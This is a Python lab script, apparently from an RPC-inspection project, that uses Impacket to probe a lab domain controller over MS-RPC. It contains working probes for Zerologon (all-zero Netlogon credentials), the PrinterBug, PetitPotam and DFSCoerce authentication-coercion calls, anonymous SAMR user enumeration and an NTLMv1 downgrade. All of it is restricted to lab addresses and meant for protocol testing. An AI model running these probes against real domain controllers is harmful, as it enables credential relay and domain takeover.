#!/usr/bin/env python3
"""Impacket-library MS-RPC probes against the rpcinspect lab DC.

Run inside the client netns with the lab venv, e.g.
  captures/lab/in-client.sh python captures/lab/tools/rpc_probes.py authlevel privacy

Each subcommand makes a few real DCE/RPC calls and prints what the server
answered; rejections (bind_nak, fault, error status) are reported, not hidden.
Every loop is bounded.  Coercion-style calls only ever name a "listener" inside
the lab network (10.135.0.0/24 or 127.0.0.0/8).

Subcommands:
  epm-dump         EPM ept_lookup loop on TCP 135 that tolerates Samba's
                   end-of-list reply (impacket's rpcdump.py does not)
  noauth           auth level NONE over ncacn_ip_tcp: samr, dssetup, lsarpc, netlogon
  authlevel LEVEL  NTLM at LEVEL (connect|integrity|privacy): epm on 135, samr, lsarpc
  ntlmv1 LEVEL     NTLMv1 (impacket.ntlm.USE_NTLMv2 = False) at LEVEL (integrity|privacy)
                   over ncacn_ip_tcp to samr, twice: with extended session security
                   (the NTLM2 session response) and without it (ESS dropped from
                   the NEGOTIATE flags: one RC4 handle for both directions).  Needs
                   "ntlm auth = yes" on the DC (record.sh sets it)
  schannel MACHINE$ PASSWORD
                   Netlogon secure channel: NetrServerReqChallenge/Authenticate3
                   (AES), then alter_context with auth type 68 at privacy and
                   DsrGetDcNameEx2 + NetrLogonGetCapabilities over it
  zerologon        NetrServerAuthenticate3 with an all-zero credential, --tries times
  coerce-rprn      MS-RPRN RpcOpenPrinter + RpcRemoteFindFirstPrinterChangeNotificationEx
  coerce-efsr      MS-EFSR binds on \\pipe\\lsarpc and \\pipe\\efsrpc + EfsRpcOpenFileRaw
  coerce-dfsnm     MS-DFSNM NetrDfsRemoveStdRoot / NetrDfsAddStdRoot
  ioxid            DCOM IObjectExporter bind + ServerAlive2 on TCP 135
"""

import argparse
import ipaddress
import os
import secrets
import struct
import sys

from impacket import ntlm
from impacket.dcerpc.v5 import dcomrt, dssp, epm, lsad, lsat, nrpc, rprn, samr, transport
from impacket.dcerpc.v5.dtypes import DWORD, LONG, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import (
    RPC_C_AUTHN_LEVEL_CONNECT,
    RPC_C_AUTHN_LEVEL_NONE,
    RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
    RPC_C_AUTHN_NETLOGON,
    RPC_C_AUTHN_WINNT,
    DCERPCException,
)
from impacket.uuid import uuidtup_to_bin

LEVELS = {
    "none": RPC_C_AUTHN_LEVEL_NONE,
    "connect": RPC_C_AUTHN_LEVEL_CONNECT,
    "integrity": RPC_C_AUTHN_LEVEL_PKT_INTEGRITY,
    "privacy": RPC_C_AUTHN_LEVEL_PKT_PRIVACY,
}
LAB_NET = ipaddress.ip_network(os.environ.get("LAB_NET", "10.135.0.0/24"))


def say(*a):
    print(*a, flush=True)


def lab_listener(addr):
    ip = ipaddress.ip_address(addr)
    if not (ip in LAB_NET or ip.is_loopback):
        sys.exit(f"refusing listener {addr}: only lab addresses ({LAB_NET}, 127/8)")
    return addr


def tcp_dce(host, iface_uuid, creds=None, level=None, auth_type=RPC_C_AUTHN_WINNT):
    """EPM-map IFACE on HOST:135, then connect to the dynamic ncacn_ip_tcp port."""
    binding = epm.hept_map(host, iface_uuid, protocol="ncacn_ip_tcp")
    say("epm map ->", binding)
    t = transport.DCERPCTransportFactory(binding)
    if creds:
        t.set_credentials(*creds)
    dce = t.get_dce_rpc()
    if level is not None:
        dce.set_auth_level(level)
        if level != RPC_C_AUTHN_LEVEL_NONE:
            dce.set_auth_type(auth_type)
    dce.connect()
    return dce


def np_dce(host, pipe, creds):
    t = transport.DCERPCTransportFactory(rf"ncacn_np:{host}[{pipe}]")
    t.set_credentials(*creds)
    dce = t.get_dce_rpc()
    dce.connect()
    return dce


def try_call(label, fn):
    try:
        r = fn()
        say(f"  {label:<48} OK")
        return r
    except DCERPCException as e:
        say(f"  {label:<48} REJECTED: {e}")
    except Exception as e:  # report whatever the server did
        say(f"  {label:<48} FAILED: {type(e).__name__}: {e}")
    return None


def ept_lookup_req(handle, max_ents):
    req = epm.ept_lookup()
    req["inquiry_type"] = epm.RPC_C_EP_ALL_ELTS
    req["object"] = NULL
    req["Ifid"] = NULL
    req["vers_option"] = epm.RPC_C_VERS_ALL
    req["entry_handle"] = handle
    req["max_ents"] = max_ents
    return req


# ------------------------------------------------------------------ commands
def cmd_epm_dump(a):
    dce = transport.DCERPCTransportFactory(rf"ncacn_ip_tcp:{a.host}[135]").get_dce_rpc()
    dce.connect()
    dce.bind(epm.MSRPC_UUID_PORTMAP)
    handle = epm.ept_lookup_handle_t()
    total = 0
    for _ in range(20):  # bounded
        resp = dce.request(ept_lookup_req(handle, 20), checkError=False)
        for i in range(resp["num_ents"]):
            e = resp["entries"][i]
            floors = epm.EPMTower(b"".join(e["tower"]["tower_octet_string"]))["Floors"]
            say(f"  {floors[0]!s:<44} {epm.PrintStringBinding(floors)}")
            total += 1
        handle = resp["entry_handle"]
        if resp["status"] != 0:
            # Samba answers the lookup after the last batch with
            # ept_s_not_registered (0x16c9a0d6) instead of a null handle.
            say(f"ept_lookup status 0x{resp['status']:08x} after {total} entries (end of list)")
            break
        if handle.isNull():
            say(f"null handle: end of list ({total} entries)")
            break
    dce.disconnect()


def cmd_noauth(a):
    say("[samr over ncacn_ip_tcp, auth level none]")
    dce = tcp_dce(a.host, samr.MSRPC_UUID_SAMR)
    dce.bind(samr.MSRPC_UUID_SAMR)
    r = try_call("SamrConnect", lambda: samr.hSamrConnect(dce))
    if r:
        sh = r["ServerHandle"]
        doms = try_call(
            "SamrEnumerateDomainsInSamServer", lambda: samr.hSamrEnumerateDomainsInSamServer(dce, sh)
        )
        if doms:
            name = doms["Buffer"]["Buffer"][0]["Name"]
            lk = try_call(
                f"SamrLookupDomainInSamServer({name})",
                lambda: samr.hSamrLookupDomainInSamServer(dce, sh, name),
            )
            if lk:
                od = try_call(
                    "SamrOpenDomain", lambda: samr.hSamrOpenDomain(dce, sh, domainId=lk["DomainId"])
                )
                if od:
                    us = try_call(
                        "SamrEnumerateUsersInDomain",
                        lambda: samr.hSamrEnumerateUsersInDomain(dce, od["DomainHandle"]),
                    )
                    if us:
                        say("    users:", ", ".join(u["Name"] for u in us["Buffer"]["Buffer"]))
    dce.disconnect()

    say("[dssetup (lsarpc endpoint), auth level none]")
    dce = tcp_dce(a.host, dssp.MSRPC_UUID_DSSP)
    dce.bind(dssp.MSRPC_UUID_DSSP)
    try_call("DsRolerGetPrimaryDomainInformation", lambda: dssp.hDsRolerGetPrimaryDomainInformation(dce, 1))
    say("[lsarpc, alter_context on the same connection, auth level none]")
    try:
        dce.bind(lsat.MSRPC_UUID_LSAT, alter=1)
        try_call("LsarOpenPolicy2", lambda: lsad.hLsarOpenPolicy2(dce))
    except Exception as e:
        say("  alter_context lsarpc FAILED:", e)
    dce.disconnect()

    say("[netlogon, auth level none: NetrServerReqChallenge is unauthenticated by design]")
    dce = tcp_dce(a.host, nrpc.MSRPC_UUID_NRPC)
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    try_call(
        "NetrServerReqChallenge", lambda: nrpc.hNetrServerReqChallenge(dce, NULL, "CLIENT\x00", b"\x11" * 8)
    )
    dce.disconnect()


def cmd_authlevel(a):
    level = LEVELS[a.level]
    creds = (a.user, a.password, a.domain)
    say(f"[epmapper on TCP 135, NTLM, level {a.level}]")
    t = transport.DCERPCTransportFactory(rf"ncacn_ip_tcp:{a.host}[135]")
    t.set_credentials(*creds)
    dce = t.get_dce_rpc()
    dce.set_auth_level(level)
    dce.set_auth_type(RPC_C_AUTHN_WINNT)
    dce.connect()
    if try_call("bind epmapper", lambda: dce.bind(epm.MSRPC_UUID_PORTMAP)) is not None:

        def lookup():
            r = dce.request(ept_lookup_req(epm.ept_lookup_handle_t(), 5), checkError=False)
            say(f"    ept_lookup: {r['num_ents']} entries, status 0x{r['status']:08x}")

        try_call("ept_lookup (5 entries)", lookup)
    dce.disconnect()

    say(f"[samr over ncacn_ip_tcp, NTLM, level {a.level}]")
    dce = tcp_dce(a.host, samr.MSRPC_UUID_SAMR, creds, level)
    if try_call("bind samr", lambda: dce.bind(samr.MSRPC_UUID_SAMR)) is not None:
        r = try_call("SamrConnect", lambda: samr.hSamrConnect(dce))
        if r:
            try_call(
                "SamrEnumerateDomainsInSamServer",
                lambda: samr.hSamrEnumerateDomainsInSamServer(dce, r["ServerHandle"]),
            )
    dce.disconnect()

    say(f"[lsarpc over ncacn_ip_tcp, NTLM, level {a.level}]")
    dce = tcp_dce(a.host, lsat.MSRPC_UUID_LSAT, creds, level)
    if try_call("bind lsarpc", lambda: dce.bind(lsat.MSRPC_UUID_LSAT)) is not None:
        try_call("LsarOpenPolicy2", lambda: lsad.hLsarOpenPolicy2(dce))
    dce.disconnect()


def _ntlmv1_samr(a, level, ess):
    """One samr connection authenticated with NTLMv1, with or without ESS."""
    real_type1 = ntlm.getNTLMSSPType1

    def type1(*args, **kw):
        auth = real_type1(*args, **kw)
        if not ess:  # the server then answers without ESS, and both ends use NTLMv1 keys as they are
            auth["flags"] &= ~ntlm.NTLMSSP_NEGOTIATE_EXTENDED_SESSIONSECURITY
        return auth

    ntlm.getNTLMSSPType1 = type1  # rpcrt looks it up in the module at bind time
    try:
        dce = tcp_dce(a.host, samr.MSRPC_UUID_SAMR, (a.user, a.password, a.domain), level)
        if try_call("bind samr", lambda: dce.bind(samr.MSRPC_UUID_SAMR)) is not None:
            r = try_call("SamrConnect", lambda: samr.hSamrConnect(dce))
            if r:
                sh = r["ServerHandle"]
                doms = try_call(
                    "SamrEnumerateDomainsInSamServer", lambda: samr.hSamrEnumerateDomainsInSamServer(dce, sh)
                )
                if doms:
                    say("    domains:", ", ".join(d["Name"] for d in doms["Buffer"]["Buffer"]))
                try_call("SamrCloseHandle", lambda: samr.hSamrCloseHandle(dce, sh))
        dce.disconnect()
    finally:
        ntlm.getNTLMSSPType1 = real_type1


def cmd_ntlmv1(a):
    ntlm.USE_NTLMv2 = False  # transport.doesSupportNTLMv2() reads it at every bind
    level = LEVELS[a.level]
    for ess in (True, False):
        say(f"[samr over ncacn_ip_tcp, NTLMv1 {'with' if ess else 'without'} ESS, level {a.level}]")
        _ntlmv1_samr(a, level, ess)


def cmd_zerologon(a):
    dce = tcp_dce(a.host, nrpc.MSRPC_UUID_NRPC)
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    dc = a.dc_name.upper()
    for i in range(a.tries):  # bounded on purpose
        try:
            nrpc.hNetrServerReqChallenge(dce, f"\\\\{dc}\x00", f"{dc}\x00", b"\x00" * 8)
            r = nrpc.hNetrServerAuthenticate3(
                dce,
                f"\\\\{dc}\x00",
                f"{dc}$\x00",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                f"{dc}\x00",
                b"\x00" * 8,
                0x212FFFFF,
            )
            say(f"  attempt {i + 1}: zero credential ACCEPTED (vulnerable!) {r['ErrorCode']}")
            break
        except DCERPCException as e:
            say(f"  attempt {i + 1}: rejected: {e}")
    dce.disconnect()


def cmd_schannel(a):
    nthash = ntlm.compute_nthash(a.machine_password)
    client_chal = secrets.token_bytes(8)
    comp = a.machine.rstrip("$")
    dce = tcp_dce(a.host, nrpc.MSRPC_UUID_NRPC)
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    r = nrpc.hNetrServerReqChallenge(dce, NULL, comp + "\x00", client_chal)
    # Samba 4.17 rejects MD5/RC4 Netlogon clients (CVE-2022-38023 hardening,
    # STATUS_DOWNGRADE_DETECTED), so negotiate AES (0x01000000) like Windows.
    skey = nrpc.ComputeSessionKeyAES(None, client_chal, r["ServerChallenge"], nthash)
    ccred = nrpc.ComputeNetlogonCredentialAES(client_chal, skey)
    r = nrpc.hNetrServerAuthenticate3(
        dce,
        NULL,
        comp + "$\x00",
        nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel,
        comp + "\x00",
        ccred,
        0x613FFFFF,
    )
    say(f"  NetrServerAuthenticate3 OK, negotiate flags 0x{r['NegotiateFlags']:08x}")
    dce.set_credentials(comp + "$", "", a.domain)
    dce.set_auth_type(RPC_C_AUTHN_NETLOGON)
    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
    dce.set_aes(True)
    dce.bind(nrpc.MSRPC_UUID_NRPC, alter=1)
    dce.set_session_key(skey)
    say("  alter_context, auth type 68 (Netlogon secure channel), privacy: OK")
    auth = nrpc.ComputeNetlogonAuthenticatorAES(ccred, skey)
    try_call(
        "DsrGetDcNameEx2 (sealed)", lambda: nrpc.hDsrGetDcNameEx2(dce, NULL, NULL, 0, NULL, NULL, NULL, 0)
    )
    try_call(
        "NetrLogonGetCapabilities (sealed)", lambda: nrpc.hNetrLogonGetCapabilities(dce, NULL, comp, auth)
    )
    dce.disconnect()


def cmd_coerce_rprn(a):
    listener = lab_listener(a.listener)
    dce = np_dce(a.host, r"\pipe\spoolss", (a.user, a.password, a.domain))
    if try_call(r"bind MS-RPRN on \pipe\spoolss", lambda: dce.bind(rprn.MSRPC_UUID_RPRN)) is None:
        return
    r = try_call(f"RpcOpenPrinter(\\\\{a.host})", lambda: rprn.hRpcOpenPrinter(dce, f"\\\\{a.host}\x00"))
    if r:
        try_call(
            f"RpcRemoteFindFirstPrinterChangeNotificationEx(\\\\{listener})",
            lambda: rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
                dce, r["pHandle"], rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine=f"\\\\{listener}\x00"
            ),
        )
        try_call("RpcClosePrinter", lambda: rprn.hRpcClosePrinter(dce, r["pHandle"]))
    dce.disconnect()


EFSR_ON_LSARPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
EFSR_ON_EFSRPC = uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("FileName", WSTR), ("Flags", LONG))


def cmd_coerce_efsr(a):
    listener = lab_listener(a.listener)
    for pipe, iface in ((r"\pipe\lsarpc", EFSR_ON_LSARPC), (r"\pipe\efsrpc", EFSR_ON_EFSRPC)):
        say(f"[MS-EFSR on {pipe}]")
        try:
            dce = np_dce(a.host, pipe, (a.user, a.password, a.domain))
        except Exception as e:
            say(f"  open {pipe} FAILED: {e}")
            continue
        if try_call("bind EFSR", lambda: dce.bind(iface)) is not None:  # noqa: B023

            def call():
                req = EfsRpcOpenFileRaw()
                req["FileName"] = f"\\\\{listener}\\lab\\x.txt\x00"
                req["Flags"] = 0
                dce.call(req.opnum, req)  # noqa: B023
                return dce.recv()  # noqa: B023

            try_call(f"EfsRpcOpenFileRaw(\\\\{listener}\\lab\\x.txt)", call)
        dce.disconnect()


DFSNM = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))


def dfsnm_call(dce, opnum, server, share, comment=None):
    # NetrDfsAddStdRoot (12): ServerName, RootShare, Comment, ApiFlags
    # NetrDfsRemoveStdRoot (13): ServerName, RootShare, ApiFlags
    fields = [("ServerName", WSTR), ("RootShare", WSTR)]
    if comment is not None:
        fields.append(("Comment", WSTR))
    fields.append(("ApiFlags", DWORD))
    req_cls = type("DfsReq", (NDRCALL,), {"opnum": opnum, "structure": tuple(fields)})
    r = req_cls()
    r["ServerName"] = server + "\x00"
    r["RootShare"] = share + "\x00"
    if comment is not None:
        r["Comment"] = comment + "\x00"
    r["ApiFlags"] = 1 if opnum == 13 else 0
    dce.call(opnum, r)
    ans = dce.recv()
    status = struct.unpack("<L", ans[-4:])[0]
    if status:
        raise DCERPCException(error_code=status)
    return ans


def cmd_coerce_dfsnm(a):
    listener = lab_listener(a.listener)
    dce = np_dce(a.host, r"\pipe\netdfs", (a.user, a.password, a.domain))
    if try_call(r"bind MS-DFSNM on \pipe\netdfs", lambda: dce.bind(DFSNM)) is None:
        return
    try_call(f"NetrDfsRemoveStdRoot({listener}, lab)", lambda: dfsnm_call(dce, 13, listener, "lab"))
    try_call(f"NetrDfsAddStdRoot({listener}, lab)", lambda: dfsnm_call(dce, 12, listener, "lab", "x"))
    dce.disconnect()


def cmd_ioxid(a):
    dce = transport.DCERPCTransportFactory(rf"ncacn_ip_tcp:{a.host}[135]").get_dce_rpc()
    dce.connect()
    if (
        try_call("bind IObjectExporter (99fcfec4-...)", lambda: dce.bind(dcomrt.IID_IObjectExporter))
        is not None
    ):
        try_call("ServerAlive2", lambda: dcomrt.IObjectExporter(dce).ServerAlive2())
    dce.disconnect()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--host", default=os.environ.get("LAB_DC_IP", "10.135.0.10"))
    p.add_argument("--dc-name", default="DC1")
    p.add_argument("--domain", default=os.environ.get("LAB_DOMAIN", "RPCLAB"))
    p.add_argument("--user", default="Administrator")
    p.add_argument("--password", default=os.environ.get("LAB_ADMIN_PASS", "RpcLab-Passw0rd"))
    p.add_argument("--listener", default="10.135.0.20", help="coercion target (lab address only)")
    p.add_argument("--tries", type=int, default=3)
    sub = p.add_subparsers(dest="cmd", required=True)
    for name in ("epm-dump", "noauth", "zerologon", "coerce-rprn", "coerce-efsr", "coerce-dfsnm", "ioxid"):
        sub.add_parser(name)
    s = sub.add_parser("authlevel")
    s.add_argument("level", choices=["connect", "integrity", "privacy"])
    s = sub.add_parser("ntlmv1")
    s.add_argument("level", choices=["integrity", "privacy"])
    s = sub.add_parser("schannel")
    s.add_argument("machine")
    s.add_argument("machine_password")
    a = p.parse_args()
    a.tries = max(1, min(a.tries, 10))
    ipaddress.ip_address(a.host)  # an address, never a name to resolve
    if ipaddress.ip_address(a.host) not in LAB_NET:
        sys.exit(f"refusing host {a.host}: not in the lab network {LAB_NET}")
    globals()["cmd_" + a.cmd.replace("-", "_")](a)


if __name__ == "__main__":
    main()
